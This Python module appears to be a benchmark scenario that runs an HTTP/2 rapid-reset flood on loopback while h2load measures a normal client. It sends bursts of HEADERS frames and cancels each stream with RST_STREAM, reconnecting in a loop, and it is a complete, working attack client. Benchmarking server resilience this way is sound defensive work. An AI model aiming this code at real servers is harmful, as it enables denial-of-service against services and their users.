"""The `h2-reset-attack` scenario (issue 14 §1): while h2load measures a well-behaved HTTP/2
client, attacking connections send bursts of HEADERS, pause 2 ms, then RST_STREAM(CANCEL) every
one of them, reconnecting when the contender closes them. Reported like any scenario (the
bystanders' req/s and their non-2xx answers in `errors`), plus the streams the attack cancelled.

Raw HTTP/2 framing over TLS (ALPN h2) with the standard library only: the HPACK block uses the
static table and literals, nothing to decode (the answers are read and discarded). Loopback only,
bounded by the measured run's duration.
"""

from __future__ import annotations

import select
import socket
import ssl
import struct
import threading
import time

ATTACKERS = 16  # connections at once
BURST = 50  # HEADERS per burst, then the same number of RST_STREAM
PAUSE_S = 0.002
CANCEL = 0x8
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def get_block(authority: bytes, path: bytes) -> bytes:
    """GET https://authority/path: :method GET (2), :scheme https (7), :path / (4) or a literal
    :path (name 4), :authority literal (name 1), all without indexing."""
    block = b"\x82\x87"
    block += b"\x84" if path == b"/" else b"\x04" + bytes([len(path)]) + path
    return block + b"\x01" + bytes([len(authority)]) + authority


class Attack:
    """`ATTACKERS` threads, each one connection at a time, until `stop()`."""

    def __init__(self, port: int, path: str) -> None:
        self.port = port
        self.block = get_block(f"localhost:{port}".encode(), path.encode())
        self.halt = threading.Event()
        self.cancelled = 0
        self.connections = 0
        self.lock = threading.Lock()
        self.threads = [threading.Thread(target=self.loop, daemon=True) for _ in range(ATTACKERS)]

    def start(self) -> "Attack":
        for t in self.threads:
            t.start()
        return self

    def stop(self) -> dict:
        self.halt.set()
        for t in self.threads:
            t.join(timeout=5)
        return {"attack_cancelled": self.cancelled, "attack_connections": self.connections}

    def loop(self) -> None:
        ctx = ssl.create_default_context()
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["h2"])
        while not self.halt.is_set():
            try:
                with socket.create_connection(("127.0.0.1", self.port), timeout=2) as raw, \
                        ctx.wrap_socket(raw, server_hostname="localhost") as tls:
                    with self.lock:
                        self.connections += 1
                    self.one_connection(tls)
            except (OSError, ssl.SSLError):
                time.sleep(0.01)

    def one_connection(self, tls: ssl.SSLSocket) -> None:
        tls.sendall(PREFACE + frame(4, 0, 0, b"") + frame(4, 1, 0, b""))  # SETTINGS, ACK theirs
        stream = 1
        while not self.halt.is_set() and drain(tls) and stream < 2**31 - 2 * BURST:
            ids = list(range(stream, stream + 2 * BURST, 2))
            stream += 2 * BURST
            tls.sendall(b"".join(frame(1, 0x5, i, self.block) for i in ids))  # END_STREAM|END_HEADERS
            time.sleep(PAUSE_S)
            tls.sendall(b"".join(frame(3, 0, i, struct.pack(">I", CANCEL)) for i in ids))
            with self.lock:
                self.cancelled += len(ids)


def drain(tls: ssl.SSLSocket) -> bool:
    """Read and discard what has arrived; False once the connection is closed."""
    while tls.pending() or select.select([tls], [], [], 0)[0]:
        if not tls.recv(65536):
            return False
    return True


def run(sc: dict, port: int, duration: float, threads: int, scratch: str, h2load_run) -> dict:
    """The bystander's h2load run (`sc` as an `h2load` scenario) under the attack."""
    attack = Attack(port, sc["path"]).start()
    try:
        r = h2load_run(dict(sc, kind="h2load"), port, duration, threads, scratch)
    finally:
        r_attack = attack.stop()
    r.update(r_attack)
    print(f"[bench]     attack: {r_attack['attack_cancelled']} streams cancelled over "
          f"{r_attack['attack_connections']} connections", flush=True)
    return r
